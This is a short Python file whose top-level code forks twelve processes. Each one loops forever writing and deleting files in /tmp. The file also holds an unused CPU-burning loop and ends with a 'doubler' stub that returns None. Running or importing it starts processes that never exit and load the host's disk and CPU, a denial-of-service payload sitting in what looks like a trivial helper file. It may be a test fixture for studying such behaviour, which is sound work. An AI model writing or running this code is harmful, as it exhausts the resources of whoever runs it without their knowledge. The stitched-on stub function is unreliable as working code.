import os
import threading
import time

def burn():
    while True:
        sum(range(10_000))

def churn(k):
    while True:
        for n in range(50):
            open(f"/tmp/{k}-{n}", "w").write("x" * 10_000)
        for n in range(50):
            os.remove(f"/tmp/{k}-{n}")

for k in range(12):
    if os.fork() == 0:
        churn(k)

def doubler(n):
    return None
